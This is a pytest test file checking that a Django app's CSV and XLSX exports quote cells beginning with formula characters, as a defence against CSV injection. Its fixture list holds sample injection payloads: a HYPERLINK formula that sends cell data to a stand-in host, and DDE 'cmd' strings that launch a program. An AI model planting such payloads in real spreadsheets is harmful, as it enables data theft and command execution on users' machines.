"""CSV/XLSX exports cannot smuggle a formula into a spreadsheet (CSV injection, ASVS 1.2.10):
text that starts with = + - @ (or a tab or carriage return) is prefixed with a quote, while
numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from measures.engine import derived as engine
from measures.models import Area, Measure
from reports.exports import neutralise
from tests.factories import monthly_values, table_pages

TABLE_PAGES = table_pages()
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def figures(small_plan):
    measure = Measure.objects.get(code="t-assaults")
    monthly_values(
        measure,
        Area.objects.filter(code__in=["force", "nation"]),
        value=lambda i, area: Decimal(10 + i % 7) * (100 if area.code == "nation" else 1),
    )
    engine.recompute()
    return measure


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))  # not read-only: it reports cell data types
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("formula", FORMULAS, ids=["=", "+", "-", "@"])
def test_a_formula_in_a_measure_name_is_quoted_in_both_exports(client, alice, figures, formula):
    Measure.objects.filter(pk=figures.pk).update(name=formula)
    client.force_login(alice)

    for page in TABLE_PAGES:
        as_csv = client.get(reverse(page), {"period": "2022-12", "export": "csv"})
        as_xlsx = client.get(reverse(page), {"period": "2022-12", "export": "xlsx"})
        assert as_csv.status_code == as_xlsx.status_code == 200, page

        cells = csv_cells(as_csv.content)
        # The name is a cell of its own, or starts one ("… total" in the year-to-date table).
        assert any(cell.startswith("'" + formula) for cell in cells), page
        assert not any(cell.startswith(formula) for cell in cells), page
        workbook = xlsx_cells(as_xlsx.content)
        named = [c for c in workbook if str(c.value or "").startswith("'" + formula)]
        assert named, page
        assert all(cell.data_type == "s" for cell in named), page  # text, not a formula
        assert not any(str(c.value or "").startswith(formula) for c in workbook), page
        assert not any(cell.data_type == "f" for cell in workbook), page


def test_no_exported_text_cell_starts_a_formula(client, alice, figures):
    """Whatever the tables hold (captions, footnotes, labels), no text cell can start one."""
    Measure.objects.filter(pk=figures.pk).update(name=FORMULAS[0])
    client.force_login(alice)

    for page in TABLE_PAGES:
        response = client.get(reverse(page), {"period": "2022-12", "export": "csv"})
        dangerous = [c for c in csv_cells(response.content) if c[:1] in ("=", "+", "-", "@")]
        # Negative numbers are numbers, not formulas.
        assert all(_is_number(cell) for cell in dangerous), (page, dangerous)


def _is_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Homicides", "Homicides"),
        ("", ""),
        (Decimal("-3.5"), -3.5),
        (12, 12),
        (None, None),
    ],
)
def test_neutralise_quotes_formula_text_and_keeps_numbers(cell, expected):
    assert neutralise(cell) == expected
